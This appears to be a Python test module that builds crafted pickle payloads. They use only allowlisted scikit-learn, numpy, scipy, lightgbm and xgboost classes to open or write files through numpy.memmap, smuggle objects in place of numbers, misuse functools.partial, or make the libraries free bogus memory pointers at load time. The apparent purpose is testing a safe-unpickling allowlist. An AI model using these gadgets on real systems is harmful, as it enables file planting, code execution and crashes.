"""Pickles that name nothing but classes of the allowlist, and make their own code act at loading.

A state covers a method of the object that gets it; what runs at loading then calls the cover. Each
says which path a careless ``pickle.load`` opens; None where it acts without opening one.
"""

from __future__ import annotations

import pickle
from collections.abc import Iterator
from dataclasses import dataclass

import numpy as np
from crafted import glob, proto, short

SCALER = ("sklearn.preprocessing._data", "StandardScaler")
LOGISTIC = ("sklearn.linear_model._logistic", "LogisticRegression")
LINEAR = ("sklearn.linear_model._base", "LinearRegression")
TEXT = b"import os\nprint('run at the next start')\n#"


@dataclass(frozen=True)
class Gadget:
    name: str
    content: bytes
    opens: bool = False
    """A careless ``pickle.load`` opens the path."""
    writes: bool = False
    """A careless ``pickle.load`` writes TEXT there."""


def dictionary(**items: bytes) -> bytes:
    return pickle.MARK + b"".join(short(key) + value for key, value in items.items()) + pickle.DICT


def listed(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.LIST


def tupled(*items: bytes) -> bytes:
    return pickle.MARK + b"".join(items) + pickle.TUPLE


def made(module: str, name: str, **state: bytes) -> bytes:
    """An empty instance with its state."""
    empty = glob(module, name) + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    return empty + (dictionary(**state) + pickle.BUILD if state else b"")


def estimator(module: str, name: str, **state: bytes) -> bytes:
    return made(module, name, _sklearn_version=short("1.9.1"), **state)


def array(values: np.ndarray) -> bytes:
    return pickle.dumps(values, 2)[2:-1]


FALSE, NONE = pickle.NEWFALSE, pickle.NONE
ZERO, ONE = pickle.BININT1 + b"\0", pickle.BININT1 + b"\1"


def pipeline(path: str) -> bytes:
    """Its ``score`` opens a file for writing, and takes the mean of what is to be written off it."""
    raw = TEXT.ljust(-(-len(TEXT) // 8) * 8)
    mean = -np.frombuffer(raw, dtype="<f8")
    shape = tupled(ONE, pickle.BININT1 + bytes([len(mean)]))
    function = estimator(
        *("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
        **{"func": glob("numpy", "memmap"), "validate": FALSE, "feature_names_out": NONE},
        kw_args=dictionary(mode=short("w+"), dtype=short("<f8"), shape=shape),
    )
    writer = estimator(
        *SCALER,
        **{"copy": FALSE, "with_mean": pickle.NEWTRUE, "with_std": FALSE},
        **{"mean_": array(mean), "scale_": NONE, "var_": NONE},
    )
    end = estimator(*LINEAR, positive=FALSE, coef_=ONE)
    steps = zip("abc", (function, writer, end), strict=True)
    return estimator(
        *("sklearn.pipeline", "Pipeline"),
        **{"memory": NONE, "verbose": FALSE, "transform_input": NONE},
        steps=listed(*(tupled(short(name), step) for name, step in steps)),
    )


def callback(path: str) -> bytes:
    """An object that, called with two arrays, asks an estimator for its score."""
    return made(
        *("sklearn.linear_model._stochastic_gradient", "_ValidationScoreCallback"),
        **{"estimator": pipeline(path), "X_val": short(path), "y_val": NONE},
        sample_weight_val=NONE,
    )


def gadgets(path: str) -> Iterator[Gadget]:
    """All of them, against a path."""
    yield from _covered(path)
    yield from _converted()
    yield from _smuggled()
    yield from _handles()
    yield from _partials(path)


def _covered(path: str) -> Iterator[Gadget]:
    """Methods that opcodes, or ``__setstate__``, look up on the object itself."""
    memmap, item = glob("numpy", "memmap"), short(path)
    for name, cover, code in (
        ("append", "append", item + pickle.APPEND),
        ("appends", "append", pickle.MARK + item + pickle.APPENDS),
        ("add", "add", pickle.MARK + item + pickle.ADDITEMS),
    ):
        content = proto(4) + estimator(*LOGISTIC, **{cover: memmap}) + code + pickle.STOP
        yield Gadget(f"{name}.pkl", content, opens=True)
    index = glob("collections", "OrderedDict") + pickle.EMPTY_TUPLE + pickle.REDUCE
    covered = index + dictionary(append=memmap) + pickle.BUILD + item + pickle.APPEND
    yield Gadget("ordered.pkl", proto(4) + covered + pickle.STOP, opens=True)
    number = made(*LOGISTIC, type=memmap)
    sparse = made("scipy.sparse._lil", "lil_matrix", _shape=tupled(ONE, ONE), dtype=number)
    setting = sparse + tupled(pickle.BININT1 + b"\0", pickle.BININT1 + b"\0") + item + b"s"
    yield Gadget("sparse-item.pkl", proto(4) + setting + pickle.STOP, opens=True)
    numbers = array(np.arange(2.0))
    isotonic = ("sklearn.isotonic", "IsotonicRegression")
    fitted = {"X_thresholds_": numbers, "y_thresholds_": numbers}
    writing = estimator(*isotonic, **fitted, _build_f=callback(path))
    yield Gadget("isotonic.pkl", proto(4) + writing + pickle.STOP, opens=True, writes=True)
    opening = estimator(*isotonic, X_thresholds_=item, y_thresholds_=NONE, _build_f=memmap)
    yield Gadget("isotonic-open.pkl", proto(4) + opening + pickle.STOP, opens=True)
    comparing = compared(path)
    yield Gadget("isotonic-sorts.pkl", sorting(comparing, comparing), opens=True, writes=True)
    named = pickle.dumps(np.arange(2.0), 0)[:-1]
    old = proto(0) + estimator(*isotonic, X_thresholds_=named, y_thresholds_=named, _build_f=memmap)
    yield Gadget("isotonic-0.pkl", old + pickle.STOP)


def compared(path: str) -> bytes:
    """A matrix that acts when it is compared with another one."""
    cover = {"_comparison": callback(path), "reshape": glob("builtins", "complex")}
    return made("scipy.sparse._csr", "csr_matrix", **cover)


def sorting(*items: bytes, late: bytes = b"") -> bytes:
    """A pickle that sorts an array of objects; ``late`` is run when the array is there."""
    numbers = array(np.arange(2.0))
    state = {"X_thresholds_": objects(*items) + late, "y_thresholds_": numbers}
    isotonic = ("sklearn.isotonic", "IsotonicRegression")
    made_of = estimator(*isotonic, out_of_bounds=short("clip"), **state)
    return proto(4) + made_of + pickle.STOP


def _converted() -> Iterator[Gadget]:
    """Objects that code of the library iterates, prints, or takes for an array, at loading."""
    memmap = glob("numpy", "memmap")
    sampler = made(
        *("sklearn.model_selection._search", "ParameterSampler"),
        **{"n_iter": ONE, "random_state": NONE},
        param_distributions=listed(dictionary(x=made(*LOGISTIC, rvs=memmap))),
    )
    for module, name in (
        *(("collections", "deque"), ("collections", "OrderedDict"), ("collections", "Counter")),
        *(("builtins", "set"), ("builtins", "frozenset"), ("torch", "Size")),
    ):
        call = glob(module, name) + sampler + pickle.TUPLE1 + pickle.REDUCE
        yield Gadget(f"iterated-{name}.pkl", proto(4) + call + pickle.STOP)
    keys = made(*LOGISTIC, keys=memmap)
    factory = glob("collections", "defaultdict") + NONE + keys + pickle.TUPLE2 + pickle.REDUCE
    yield Gadget("default-of.pkl", proto(4) + factory + pickle.STOP)
    rebuilt = glob("copyreg", "_reconstructor") + glob("collections", "OrderedDict")
    rebuilt += glob("builtins", "dict") + keys + pickle.TUPLE3 + pickle.REDUCE
    yield Gadget("rebuilt-of.pkl", proto(4) + rebuilt + pickle.STOP)
    printed = made(*LOGISTIC, _sklearn_version=made(*LOGISTIC, get_params=memmap))
    yield Gadget("printed.pkl", proto(4) + printed + pickle.STOP)
    bunch = glob("sklearn.utils._bunch", "Bunch") + pickle.EMPTY_TUPLE + pickle.NEWOBJ
    bunch += short("dtype") + ONE + pickle.SETITEM + short("astype") + memmap + pickle.SETITEM
    predictor = ("sklearn.ensemble._hist_gradient_boosting.predictor", "TreePredictor")
    yield Gadget("nodes.pkl", proto(4) + estimator(*predictor, nodes=bunch) + pickle.STOP)
    listed_state = glob("collections", "OrderedDict") + pickle.EMPTY_TUPLE + pickle.REDUCE
    listed_state += dictionary(keys=memmap) + pickle.BUILD
    other = glob(*LOGISTIC) + pickle.EMPTY_TUPLE + pickle.NEWOBJ + listed_state + pickle.BUILD
    yield Gadget("state-of-another-kind.pkl", proto(4) + other + pickle.STOP)
    dunder = made(*LOGISTIC, __array__=memmap)
    yield Gadget("dunder-array.pkl", proto(4) + dunder + pickle.STOP)


def _smuggled() -> Iterator[Gadget]:
    """An object under the cloak of a number, in the place of numbers."""
    kind = dtype("O")
    whatever = made(*LOGISTIC, fit=ONE)
    scalar = glob("numpy._core.multiarray", "scalar") + kind + whatever + pickle.TUPLE2 + b"R"
    yield Gadget("scalar-of-object.pkl", proto(4) + scalar + pickle.STOP)
    plain = dtype("f8")
    empty = pickle.BININT1 + b"\0" + pickle.TUPLE1
    kinds = tupled(glob("numpy.ma", "MaskedArray"), glob("numpy", "ndarray"), empty, short("b"))
    call = glob("numpy.ma.core", "_mareconstruct") + kinds + pickle.REDUCE
    one = ONE + pickle.TUPLE1
    content = pickle.SHORT_BINBYTES + b"\x08" + b"\0" * 8
    mask = pickle.SHORT_BINBYTES + b"\x01" + b"\0"
    state = tupled(ONE, one, plain, FALSE, content, mask, whatever)
    yield Gadget("fill-value.pkl", proto(4) + call + state + pickle.BUILD + pickle.STOP)
    shape = glob("numpy._core.numeric", "_frombuffer") + tupled(
        content, plain, whatever, short("C")
    )
    yield Gadget("shape.pkl", proto(4) + shape + pickle.REDUCE + pickle.STOP)


def _handles() -> Iterator[Gadget]:
    """Pointers into the memory of a C library, which it frees."""
    for module in ("lightgbm.basic", "xgboost.core"):
        for key in ("handle", "_handle"):
            pointer = made(module, "Booster", **{key: pickle.BININT + b"AAAA"})
            name = f"{module.partition('.')[0]}-{key.strip('_')}{len(key)}.pkl"
            yield Gadget(name, proto(4) + pointer + pickle.STOP)
    leaving = made("lightgbm.basic", "Booster", _network=pickle.NEWTRUE, free_network=glob(*SCALER))
    yield Gadget("lightgbm-network.pkl", proto(4) + leaving + pickle.STOP)


def dtype(code: str) -> bytes:
    """A type of NumPy's, as it is pickled."""
    return glob("numpy", "dtype") + short(code) + FALSE + pickle.NEWTRUE + pickle.TUPLE3 + b"R"


def objects(*items: bytes) -> bytes:
    """An array of objects."""
    raw = pickle.dumps(np.array([None], dtype=object), 2)
    item = b"]q\x11Na"
    assert item in raw
    one = pickle.BININT1 + bytes([len(items)]) + pickle.TUPLE1
    return raw.replace(item, listed(*items)).replace(b"K\x01K\x01\x85", b"K\x01" + one)[2:-1]


def _partials(path: str) -> Iterator[Gadget]:
    """``functools.partial`` is on the list for one function of scikit-learn, and for no other."""
    function = glob("sklearn.utils.validation", "check_array")
    memmap = glob("numpy", "memmap")
    partial = glob("functools", "partial")
    given = partial + function + short(path) + pickle.TUPLE2 + pickle.REDUCE
    alone = partial + memmap + pickle.TUPLE1 + pickle.REDUCE
    honest = partial + function + pickle.TUPLE1 + pickle.REDUCE
    named = pickle.EMPTY_DICT
    changed = honest + tupled(memmap, pickle.EMPTY_TUPLE, named, NONE) + pickle.BUILD
    filled = honest + tupled(function, short(path) + pickle.TUPLE1, named, NONE) + pickle.BUILD
    for name, content in (
        *(("of-memmap", alone), ("with-arguments", given)),
        *(("changed", changed), ("filled", filled)),
        ("called", honest + short(path) + pickle.TUPLE1 + pickle.REDUCE),
    ):
        yield Gadget(f"partial-{name}.pkl", proto(4) + content + pickle.STOP)
